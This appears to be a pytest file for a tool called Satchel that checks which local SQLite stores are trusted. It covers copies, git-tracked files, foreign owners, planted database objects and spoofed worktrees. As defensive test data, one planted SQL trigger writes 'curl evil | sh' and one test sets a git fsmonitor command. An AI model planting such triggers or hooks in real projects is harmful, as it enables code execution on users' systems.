"""Which stores are believed: those made here, and those the user has said yes to."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import TYPE_CHECKING

import apsw
import pytest

from satchel import Satchel
from satchel.base.errors import InvalidInput, NotFound, Refused, StoreMissing, Untrusted
from satchel.base.folders import state_folder
from satchel.store.known_stores import KnownStore, KnownStores
from satchel.store.trust import Trust

if TYPE_CHECKING:
    from conftest import ManualClock

STRANGER = 65_534
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
Open = Callable[..., Satchel]


@pytest.fixture(autouse=True)
def own_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A state folder for this test alone."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state" / "satchel"


def listed() -> list[KnownStore]:
    return KnownStores(state_folder()).every()


def make(open_in: Open, project: Path, content: str = "kept") -> Path:
    """Write to a project's store, close it, and return its file."""
    satchel = open_in(project)
    satchel.entries.write("discovery", content, agent="builder")
    satchel.close()
    return satchel.place.file


def read(open_in: Open, project: Path, **options: object) -> list[str]:
    satchel = open_in(project, **options)
    found = [entry.content for entry in satchel.entries.read().entries]
    satchel.close()
    return found


def _use(open_in: Open, project: Path, act: str) -> None:
    if act == "trust":
        open_in(project).housekeeping.trust()
    elif act == "write":
        make(open_in, project)
    else:
        read(open_in, project)


def strange(open_in: Open, project: Path) -> Path:
    """Make a store, and have the list know nothing of it, as of one that came with an archive."""
    file = make(open_in, project)
    KnownStores(state_folder()).remove(file)
    return file


def git(folder: Path, *arguments: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *arguments],
        cwd=folder,
        check=True,
        capture_output=True,
    )


def test_a_store_is_listed_when_it_is_made(open_in: Open, project: Path) -> None:
    file = make(open_in, project)
    (store,) = listed()
    status = file.stat()
    assert (store.file, store.identity, store.how) == (file, (status.st_dev, status.st_ino), "made")
    assert store.complete
    assert read(open_in, project) == ["kept"]


def test_reading_lists_nothing(open_in: Open, project: Path, own_state: Path) -> None:
    assert read(open_in, project) == []
    assert not own_state.exists()


@pytest.mark.parametrize("act", ["read", "write"])
def test_a_store_that_was_not_made_here_is_refused(open_in: Open, project: Path, act: str) -> None:
    file = strange(open_in, project)
    before = sorted(path.name for path in file.parent.iterdir())
    with pytest.raises(Refused, match=r"neither made nor trusted by you.*satchel trust"):
        _use(open_in, project, act)
    assert sorted(path.name for path in file.parent.iterdir()) == before


def test_a_store_that_is_not_listed_is_refused_before_it_is_opened(
    open_in: Open, project: Path, clock: ManualClock
) -> None:
    file = strange(open_in, project)
    trust = Trust(file, KnownStores(state_folder()), clock)
    trust.check_files()
    status = file.stat()
    with pytest.raises(Untrusted, match="neither made nor trusted by you"):
        trust.check_known((status.st_dev, status.st_ino))


def test_a_backup_of_a_store_that_lives_becomes_a_store_of_its_own_elsewhere(
    open_in: Open, project: Path, tmp_path: Path
) -> None:
    make(open_in, project)
    backup = open_in(project).housekeeping.backup().file
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / ".git").mkdir(parents=True)
    open_in(elsewhere).housekeeping.restore(backup)
    assert len({store.uid for store in listed()}) == 2
    assert read(open_in, project) == ["kept"]


def test_a_store_that_the_user_trusts_is_used(open_in: Open, project: Path) -> None:
    strange(open_in, project)
    accepted = open_in(project).housekeeping.trust()
    assert (accepted.store.how, accepted.items, accepted.projects, accepted.agents) == ("trusted", 1, 1, 1)
    assert read(open_in, project) == ["kept"]


def test_trusting_again_keeps_how_the_store_came_on_the_list(open_in: Open, project: Path) -> None:
    make(open_in, project)
    accepted = open_in(project).housekeeping.trust()
    assert (accepted.was_listed, accepted.store.how) == (True, "made")


def test_a_store_that_was_moved_is_followed(open_in: Open, project: Path, tmp_path: Path) -> None:
    make(open_in, project)
    project.rename(tmp_path / "moved")
    assert read(open_in, tmp_path / "moved") == ["kept"]
    assert [store.file.parent.parent.name for store in listed()] == ["moved"]


def test_a_copy_is_refused_until_it_is_trusted_and_then_a_store_of_its_own(
    open_in: Open, project: Path, tmp_path: Path
) -> None:
    file = make(open_in, project)
    shutil.copytree(project, tmp_path / "copy")
    with pytest.raises(Refused, match=rf"copy of {file}.*satchel trust"):
        read(open_in, tmp_path / "copy")
    accepted = open_in(tmp_path / "copy").housekeeping.trust()
    assert accepted.copy_of == file
    assert read(open_in, tmp_path / "copy") == read(open_in, project) == ["kept"]
    assert len({store.uid for store in listed()}) == 2


def test_another_store_under_a_listed_path_is_refused(open_in: Open, project: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    (other / ".git").mkdir(parents=True)
    theirs = strange(open_in, other)
    mine = make(open_in, project)
    shutil.copy(theirs, mine)
    with pytest.raises(Refused, match="neither made nor trusted"):
        read(open_in, project)


@pytest.mark.parametrize("variable", ["1", "true"])
def test_the_variable_trusts_everything(open_in: Open, project: Path, variable: str) -> None:
    strange(open_in, project)
    assert read(open_in, project, environ={"SATCHEL_TRUST": variable}) == ["kept"]


def test_a_trusted_folder_trusts_what_lies_below(open_in: Open, project: Path, tmp_path: Path) -> None:
    strange(open_in, project)
    assert read(open_in, project, environ={"SATCHEL_TRUST_FOLDERS": str(tmp_path.resolve())}) == ["kept"]
    with pytest.raises(Refused):
        read(open_in, project, environ={"SATCHEL_TRUST_FOLDERS": str(tmp_path / "else")})


def test_a_path_that_was_given_needs_no_list(open_in: Open, project: Path, tmp_path: Path) -> None:
    satchel = open_in(project, db=tmp_path / "s.db")
    satchel.entries.write("discovery", "kept", agent="builder")
    assert listed() == []
    with pytest.raises(InvalidInput, match="needs no list"):
        satchel.housekeeping.trust()


def test_a_given_path_below_a_satchel_folder_counts_as_found(open_in: Open, project: Path, tmp_path: Path) -> None:
    file = strange(open_in, project)
    with pytest.raises(Refused, match="neither made nor trusted"):
        read(open_in, tmp_path, db=file)


def test_there_must_be_a_store_to_trust(open_in: Open, project: Path) -> None:
    with pytest.raises(NotFound, match="satchel init"):
        open_in(project).housekeeping.trust()


def test_a_store_that_git_tracks_is_neither_believed_nor_trusted(open_in: Open, tmp_path: Path) -> None:
    upstream = tmp_path / "upstream"
    upstream.mkdir()
    git(upstream, "init", "-q")
    make(open_in, upstream)
    git(upstream, "add", "-f", ".satchel/satchel.db")
    git(upstream, "commit", "-q", "-m", "planted")
    git(tmp_path, "clone", "-q", str(upstream), "clone")
    with pytest.raises(Refused):
        read(open_in, tmp_path / "clone")
    with pytest.raises(Refused, match=r"git tracks satchel\.db.*rm -r --cached"):
        open_in(tmp_path / "clone").housekeeping.trust()


def test_git_is_asked_again_when_the_file_is_another(open_in: Open, tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    git(project, "init", "-q")
    file = make(open_in, project)
    git(project, "add", "-f", ".satchel/satchel.db")
    assert read(open_in, project) == ["kept"]
    content = file.read_bytes()
    file.unlink()
    file.write_bytes(content)
    file.chmod(0o600)
    # the file system may give the new file the number of the old
    known = KnownStores(state_folder())
    (store,) = known.every()
    known.put(KnownStore(store.uid, store.file, (0, 0), store.how, store.listed_at))
    with pytest.raises(Refused, match="git tracks"):
        read(open_in, project)


def test_a_repository_that_tracks_a_configuration_gets_no_store(open_in: Open, tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".satchel").mkdir(parents=True)
    (project / ".satchel" / "config.toml").write_text("[brief]\nbudget = 100\n")
    git(project, "init", "-q")
    git(project, "add", ".")
    with pytest.raises(Refused, match=r"git tracks config\.toml"):
        make(open_in, project)


def test_what_is_shared_through_git_is_no_obstacle(open_in: Open, tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / ".satchel" / "shared").mkdir(parents=True)
    (project / ".satchel" / "shared" / "rule.md").write_text("be kind\n")
    git(project, "init", "-q")
    git(project, "add", ".")
    make(open_in, project)
    assert read(open_in, project) == ["kept"]


PLANTED = [
    ("trigger t", "CREATE TRIGGER t AFTER INSERT ON context BEGIN UPDATE context SET content = 'curl evil | sh'; END"),
    ("view v", "CREATE VIEW v AS SELECT 1"),
    ("table mine", "CREATE TABLE mine (a)"),
    ("index i", "CREATE INDEX i ON context (content)"),
    ("table f", "CREATE VIRTUAL TABLE f USING fts5 (a)"),
]


@pytest.mark.parametrize(("named", "statement"), PLANTED, ids=[named for named, _ in PLANTED])
@pytest.mark.parametrize("act", ["read", "write", "trust"])
def test_an_object_that_no_migration_made_is_refused_by_name(
    open_in: Open, project: Path, named: str, statement: str, act: str
) -> None:
    file = make(open_in, project)
    with closing(apsw.Connection(str(file))) as connection:
        connection.execute(statement)
    with pytest.raises(Refused, match=rf"has objects that Satchel never creates: .*\b{named}\b"):
        _use(open_in, project, act)


def test_what_sqlite_keeps_about_the_tables_is_no_obstacle(open_in: Open, project: Path) -> None:
    file = make(open_in, project)
    with closing(apsw.Connection(str(file))) as connection:
        connection.execute("ANALYZE")
    assert read(open_in, project) == ["kept"]


@as_root
def test_another_users_store_is_used_where_that_user_was_named(open_in: Open, project: Path) -> None:
    file = make(open_in, project)
    for path in (file.parent, file):
        os.chown(path, STRANGER, -1)
    with pytest.raises(Refused, match="belongs to user nobody"):
        read(open_in, project)
    accepted = open_in(project).housekeeping.trust("nobody")
    assert accepted.store.owner == STRANGER
    assert read(open_in, project) == ["kept"]


@as_root
def test_a_store_above_in_another_users_folder_is_refused(open_in: Open, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    mine = shared / "mine"
    mine.mkdir(parents=True)
    (shared / ".git").mkdir()
    planted = make(open_in, shared)
    (shared / ".git").rmdir()
    for path in (shared, planted.parent, planted):
        os.chown(path, STRANGER, -1)
    KnownStores(state_folder()).remove(planted)
    with pytest.raises(Refused, match=r"holds a \.satchel and belongs to user nobody.*satchel trust .* --owner nobody"):
        read(open_in, mine)
    assert open_in(mine, here=True).place.file == mine / ".satchel" / "satchel.db"


def test_a_store_above_the_repository_is_not_its_own_unless_it_serves_the_tree(open_in: Open, tmp_path: Path) -> None:
    above = tmp_path.resolve() / "work"
    inner = above / "repository"
    (inner / ".git").mkdir(parents=True)
    outer = open_in(above, here=True)
    outer.entries.write("discovery", "of all", agent="builder")
    assert open_in(inner).place.file == inner / ".satchel" / "satchel.db"
    outer.housekeeping.trust(tree=True)
    place = open_in(inner).place
    assert (place.file, place.origin) == (
        above / ".satchel" / "satchel.db",
        f"that of the tree {above}, above the repository",
    )


@pytest.mark.parametrize("act", ["read", "write"])
def test_a_project_whose_store_was_removed_says_so(open_in: Open, project: Path, act: str) -> None:
    file = make(open_in, project)
    shutil.rmtree(file.parent)
    with pytest.raises(StoreMissing, match=r"(?s)is gone.*satchel restore.*\n.*satchel init --new"):
        _use(open_in, project, act)
    assert not file.parent.exists()


def test_a_removed_store_comes_back_from_the_state_folder(open_in: Open, project: Path, own_state: Path) -> None:
    file = make(open_in, project)
    made = open_in(project).housekeeping.backup()
    assert made.file.is_relative_to(own_state / "backups")
    shutil.rmtree(file.parent)
    satchel = open_in(project)
    satchel.housekeeping.restore(satchel.housekeeping.newest_backup().file)
    assert read(open_in, project) == ["kept"]


def test_a_removed_store_can_be_begun_anew(open_in: Open, project: Path) -> None:
    file = make(open_in, project)
    shutil.rmtree(file.parent)
    satchel = open_in(project)
    satchel.housekeeping.initialise(new=True)
    satchel.entries.write("discovery", "second", agent="builder")
    satchel.close()
    assert read(open_in, project) == ["second"]


def test_a_backup_of_another_store_takes_the_identity_of_the_place(
    open_in: Open, project: Path, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    (other / ".git").mkdir(parents=True)
    make(open_in, other, "of the other")
    theirs = open_in(other).housekeeping.backup(tmp_path / "theirs.db")
    make(open_in, project)
    before = {store.file: store.uid for store in listed()}
    open_in(project).housekeeping.restore(theirs.file)
    assert {store.file: store.uid for store in listed()} == before
    assert open_in(project).housekeeping.statistics() is not None


def test_a_store_that_was_not_made_to_the_end_is_no_loss(open_in: Open, project: Path) -> None:
    file = make(open_in, project)
    known = KnownStores(state_folder())
    (store,) = known.every()
    file.unlink()
    known.put(KnownStore(store.uid, file, store.identity, "made", 1, complete=False))
    make(open_in, project, "begun anew")
    assert read(open_in, project) == ["begun anew"]


def test_opening_confirms_that_a_store_was_made_to_the_end(open_in: Open, project: Path) -> None:
    make(open_in, project)
    known = KnownStores(state_folder())
    (store,) = known.every()
    known.put(KnownStore(store.uid, store.file, store.identity, "made", 1, complete=False))
    read(open_in, project)
    assert listed()[0].complete


def test_a_listed_store_works_where_the_list_cannot_be_written(
    open_in: Open, project: Path, own_state: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = make(open_in, project)
    monkeypatch.setattr(KnownStores, "is_writable", lambda _: False)
    satchel = open_in(project)
    assert satchel.housekeeping.backup().file.parent == file.parent / "backups"
    here = satchel.housekeeping.whereabouts("in this folder")
    assert here.status == "warning"
    assert f"{own_state} cannot be written" in here.detail


def test_the_doctor_says_who_acts_where_and_why_it_is_trusted(open_in: Open, project: Path) -> None:
    make(open_in, project)
    satchel = open_in(project, agent="builder", run="login")
    here = satchel.housekeeping.whereabouts(satchel.place.origin)
    assert here.detail == (
        f"agent builder; run login; store {satchel.place.file}, at the top of the repository; "
        "trusted: made here on 2026-11-18"
    )


def test_the_doctor_names_what_git_tracks(open_in: Open, tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    git(project, "init", "-q")
    make(open_in, project)
    git(project, "add", "-f", ".satchel/satchel.db")
    checks = {check.name: check for check in open_in(project).housekeeping.doctor()}
    assert checks["git"].status == "failed"
    assert "satchel.db" in checks["git"].detail


def test_a_clone_cannot_have_git_run_its_programs(open_in: Open, tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    git(project, "init", "-q")
    make(open_in, project)
    git(project, "add", "-f", ".satchel/satchel.db")
    git(project, "config", "core.fsmonitor", f"touch {tmp_path / 'ran'}")
    list(open_in(project).housekeeping.doctor())
    assert not (tmp_path / "ran").exists()


def test_a_worktree_file_that_the_repository_does_not_know_is_refused(open_in: Open, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    git(victim, "init", "-q")
    git(victim, "commit", "-q", "--allow-empty", "-m", "first")
    git(victim, "worktree", "add", "-q", str(tmp_path / "tree"))
    make(open_in, victim)
    planted = tmp_path / "planted"
    planted.mkdir()
    shutil.copy(tmp_path / "tree" / ".git", planted / ".git")
    with pytest.raises(Refused, match="does not know this worktree"):
        open_in(planted)
    (planted / "own").mkdir()
    (planted / "own" / "commondir").write_text(str(victim / ".git"))
    (planted / "own" / "gitdir").write_text(str(planted / ".git"))
    (planted / ".git").write_text(f"gitdir: {planted / 'own'}\n")
    with pytest.raises(Refused, match="does not know this worktree"):
        open_in(planted)
